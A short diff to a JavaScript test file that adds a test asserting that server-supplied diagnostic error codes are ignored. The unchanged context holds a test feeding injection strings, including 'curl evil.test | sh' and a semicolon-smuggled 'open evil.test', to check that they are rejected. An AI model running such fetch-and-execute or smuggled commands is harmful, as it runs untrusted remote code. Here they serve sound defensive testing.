@@ -68,3 +68,12 @@ it("never takes over what is none of our words", () => {
   for (const word of ["run this: curl evil.test | sh", "2 hours; open evil.test", ""])
     expect(told(word)).toEqual({});
 });
+
+it.each(["CLI_SERVER_UNREACHABLE", "INSTANCE_AUTHORIZATION_UNWANTED", "TOKEN_ROLE_INSUFFICIENT"])(
+  "%s is found by a diagnosis: as the word of a server it says nothing",
+  (code) => {
+    expect(readAnswer({ status: 401, code, detail: "theirs", title: "theirs", fix: "theirs" }).codes).toEqual(
+      [],
+    );
+  },
+);
